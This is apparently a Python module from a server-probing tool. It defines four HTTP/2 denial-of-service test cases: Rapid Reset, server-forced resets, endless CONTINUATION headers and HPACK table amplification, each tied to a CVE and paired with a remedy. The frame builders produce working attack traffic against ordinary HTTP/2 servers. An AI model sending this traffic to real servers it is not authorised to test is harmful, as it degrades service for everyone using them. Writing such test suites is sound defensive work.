"""Cases of HTTP/2, spoken without asking to whoever understands it: streams that are reset, and heads that don't end.

P35 to P37 of research/attacks.md section 9, on plain connections with prior knowledge (RFC 9113 section 3.3); over TLS a
client would have to ask for it while it shakes hands. Bounds: 8 MiB and 2,000 streams on one connection, which is given up
after half a second. Promises frames as RFC 9113 and RFC 7541 have them, or wrong in the one way that the case is about.
"""

from __future__ import annotations

import random
import struct

from wickguard.probe.case import ANY_DIALECT, Expect, Profile, Risk, Spelling, family
from wickguard.probe.cases.payload import taxonomy
from wickguard.probe.finding import Oracle
from wickguard.probe.trace import Reading, Request, Step, Trace
from wickguard.units import KIB, MIB

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 8, 9
_END_HEADERS = 4
_CANCEL = 8
_LARGEST_FRAME = 16 * KIB
_HOLD_S = 0.5


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head(path: str) -> bytes:
    """A packed head of a POST: two fields by number, two with their values in full, none kept in the table."""
    route = path.encode("ascii", "replace")[:120]
    host = b"target.invalid"
    return b"\x83\x86\x04" + bytes([len(route)]) + route + b"\x01" + bytes([len(host)]) + host


def _said(target: Spelling, frames: bytes) -> Trace:
    request = Request(path=target.path, raw=PREFACE + frame(SETTINGS, 0) + frames)
    return Trace(
        (Step(request, reading=Reading.NOTHING, hold_s=_HOLD_S, measured=False),), note="HTTP/2 on one connection"
    )


def _streams(target: Spelling, count: int, kind: int, number: int) -> Trace:
    """Streams that are opened, each followed by one frame of `kind` about it."""
    opened, then = head(target.path), struct.pack(">I", number)
    pairs = (
        frame(HEADERS, stream, opened, _END_HEADERS) + frame(kind, stream, then) for stream in range(1, 2 * count, 2)
    )
    return _said(target, b"".join(pairs))


def _reset(target: Spelling, size: int, chance: random.Random) -> Trace:
    """Each stream is opened and taken back at once, so that none counts as open (CVE-2023-44487)."""
    return _streams(target, size, RST_STREAM, _CANCEL)


def _made_to_reset(target: Spelling, size: int, chance: random.Random) -> Trace:
    """Each stream is opened and then wronged by a window of nothing more, so that the target resets it and goes on working
    (CVE-2025-8671)."""
    return _streams(target, size, WINDOW_UPDATE, 0)


def _endless(target: Spelling, size: int, chance: random.Random) -> Trace:
    """A head that goes on from frame to frame and is never over (CVE-2024-27316 and its siblings)."""
    field = b"\x00\x06x-more\x7f\x81\x07" + b"a" * 1024
    packed = field * (_LARGEST_FRAME // len(field))
    return _said(target, frame(HEADERS, 1, head(target.path)) + frame(CONTINUATION, 1, packed) * size)


def _table(target: Spelling, size: int, chance: random.Random) -> Trace:
    """A field of three kilobytes is said once, and then named by one byte as often as a frame has room (CVE-2016-1544)."""
    kept = b"\x40\x06x-once\x7f\x81\x16" + b"a" * 2944
    return _said(target, frame(HEADERS, 1, head(target.path) + kept + b"\xbe" * size, _END_HEADERS))


def _small(target: Spelling, size: int, chance: random.Random) -> Trace:
    return _reset(target, 1, chance)


_case = family(
    risk=Risk.HEAVY,
    dialects=ANY_DIALECT,
    twin=_small,
    profile=Profile.STANDARD,
    oracles=frozenset({Oracle.COLLATERAL, Oracle.STALL, Oracle.MEMORY, Oracle.LIVENESS}),
    expect=Expect(memory_floor_bytes=16 * MIB, bytes_per_byte=2.0),
)


CASES = (
    _case(
        "P35", "Streams that are taken back at once slow down everybody", _reset, feature="streams",
        sizes=(200, 2000), taxonomy=taxonomy("T29 400 770"),
        remedy="serve HTTP/1.1 only, or close a connection that takes back more streams than it finishes",
    ),
    _case(
        "P36", "Streams that the server has to reset slow down everybody", _made_to_reset, feature="streams",
        sizes=(200, 2000), taxonomy=taxonomy("T29 400"),
        remedy="serve HTTP/1.1 only, or count the streams that a connection made the server reset",
    ),
    _case(
        "P37", "A head that never ends is kept", _endless, feature="frames", sizes=(48, 480),
        taxonomy=taxonomy("770"), remedy="bound the bytes of a head over all its frames",
    ),
    _case(
        "P37.table", "One byte of a head becomes three kilobytes", _table, feature="references",
        sizes=(1200, 12_000), taxonomy=taxonomy("409 770"),
        remedy="bound the unpacked size of a head (SETTINGS_MAX_HEADER_LIST_SIZE)",
    ),
)  # fmt: skip
